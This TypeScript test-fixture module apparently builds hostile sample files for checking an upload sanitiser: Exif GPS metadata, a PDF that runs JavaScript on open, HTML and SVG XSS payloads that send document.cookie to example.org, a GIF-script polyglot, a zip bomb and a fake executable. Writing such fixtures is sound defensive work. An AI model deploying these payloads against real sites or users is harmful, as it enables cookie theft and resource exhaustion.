// Files with something in them: places and cameras in photos, scripts in pages, and what only pretends.
import { deflateSync } from 'node:zlib'

const latin1 = (text: string) => Buffer.from(text, 'latin1')

/** A JPEG of any browser with what a telephone adds: Exif with a GPS position, a camera, and a comment. */
export const withExif = (jpeg: Buffer): Buffer => {
  const u16 = (n: number) => Buffer.from([n & 255, n >> 8])
  const u32 = (n: number) => Buffer.concat([u16(n & 0xffff), u16(n >>> 16)])
  const entry = (tag: number, type: number, count: number, value: Buffer) =>
    Buffer.concat([u16(tag), u16(type), u32(count), Buffer.concat([value, Buffer.alloc(4)]).subarray(0, 4)])
  // TIFF header (8), first directory (2 + 2×12 + 4), GPS directory (2 + 4×12 + 4), then the values they point to
  const gpsAt = 8 + 2 + 24 + 4
  const valuesAt = gpsAt + 2 + 48 + 4
  const camera = latin1('MARKERAPARAT X100\0')
  const degrees = (d: number, m: number, s: number) => Buffer.concat([d, 1, m, 1, s, 1].map(n => u32(n)))
  const tiff = Buffer.concat([
    latin1('II'),
    u16(42),
    u32(8),
    u16(2),
    entry(0x0110, 2, camera.length, u32(valuesAt)),
    entry(0x8825, 4, 1, u32(gpsAt)),
    u32(0),
    u16(4),
    entry(1, 2, 2, latin1('N\0')),
    entry(2, 5, 3, u32(valuesAt + camera.length)),
    entry(3, 2, 2, latin1('E\0')),
    entry(4, 5, 3, u32(valuesAt + camera.length + 24)),
    u32(0),
    camera,
    degrees(42, 29, 24),
    degrees(21, 37, 12)
  ])
  const segment = (marker: number, body: Buffer) => {
    const length = Buffer.alloc(2)
    length.writeUInt16BE(body.length + 2)
    return Buffer.concat([Buffer.from([0xff, marker]), length, body])
  }
  return Buffer.concat([
    jpeg.subarray(0, 2),
    segment(0xe1, Buffer.concat([latin1('Exif\0\0'), tiff])),
    segment(0xfe, latin1('MARKERKOMENTAR iza stare pilane')),
    jpeg.subarray(2)
  ])
}

const crcTable = Array.from({ length: 256 }, (_, n) => {
  let c = n
  for (let k = 0; k < 8; k++) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1
  return c >>> 0
})
const chunk = (type: string, body: Buffer) => {
  const whole = Buffer.concat([latin1(type), body])
  let crc = 0xffffffff
  for (const byte of whole) crc = crcTable[(crc ^ byte) & 255]! ^ (crc >>> 8)
  const ends = Buffer.alloc(8)
  ends.writeUInt32BE(body.length, 0)
  ends.writeUInt32BE((crc ^ 0xffffffff) >>> 0, 4)
  return Buffer.concat([ends.subarray(0, 4), whole, ends.subarray(4)])
}

/** A grey PNG that says it is of this size; its content is that of a small one when it says too much. */
export const png = (width: number, height: number, text?: string): Buffer => {
  const header = Buffer.alloc(13)
  header.writeUInt32BE(width, 0)
  header.writeUInt32BE(height, 4)
  header.set([8, 0, 0, 0, 0], 8)
  const rows = Math.min(height, 64) * (Math.min(width, 64) + 1)
  return Buffer.concat([
    Buffer.from('89504e470d0a1a0a', 'hex'),
    chunk('IHDR', header),
    ...(text ? [chunk('tEXt', latin1(`Comment\0${text}`))] : []),
    chunk('IDAT', deflateSync(Buffer.alloc(rows))),
    chunk('IEND', Buffer.alloc(0))
  ])
}

/** A PDF of one page with words on it, which runs a script when it is opened. */
export const pdf = (words: string): Buffer => {
  const stream = `BT /F1 24 Tf 20 100 Td (${words}) Tj ET`
  const objects = [
    '<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 200] /Contents 4 0 R /Resources << /Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >> >>',
    `<< /Length ${stream.length} >>\nstream\n${stream}\nendstream`,
    '<< /S /JavaScript /JS (app.alert\\(1\\); this.submitForm\\("http://example.org/"\\)) >>'
  ]
  let out = '%PDF-1.4\n'
  const offsets = objects.map((object, n) => {
    const at = out.length
    out += `${n + 1} 0 obj\n${object}\nendobj\n`
    return at
  })
  const table = out.length
  out += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n`
  for (const at of offsets) out += `${String(at).padStart(10, '0')} 00000 n \n`
  out += `trailer << /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${table}\n%%EOF\n`
  return latin1(out)
}

const run = 'window.ran=1;alert(1);fetch("//example.org/"+document.cookie)'
export const html = latin1(`<!doctype html><script>${run}</script><img src=x onerror='${run}'>`)
export const svg = latin1(
  `<svg xmlns="http://www.w3.org/2000/svg" onload='${run}'><script>${run}</script><image href="http://example.org/x"/></svg>`
)
/** A GIF of one dot whose bytes are a script as well. */
export const gifAndScript = Buffer.concat([
  Buffer.from('4749463839612f2a8000000000000000', 'hex').subarray(0, 13),
  Buffer.from('000000ffffff2c00000000010001000002024401003b', 'hex'),
  latin1(`*/=1;${run}`)
])
/** A ZIP whose one entry says it unfolds to four gigabytes. */
export const zipBomb = (() => {
  const name = latin1('nule.bin')
  const packed = deflateSync(Buffer.alloc(5_000_000)).subarray(2, -4)
  const header = Buffer.alloc(30)
  header.writeUInt32LE(0x04034b50, 0)
  header.writeUInt16LE(20, 4)
  header.writeUInt16LE(8, 8)
  header.writeUInt32LE(packed.length, 18)
  header.writeUInt32LE(0xfffffffe, 22)
  header.writeUInt16LE(name.length, 26)
  return Buffer.concat([header, name, packed])
})()
export const program = Buffer.concat([latin1('MZ'), Buffer.alloc(500, 7)])
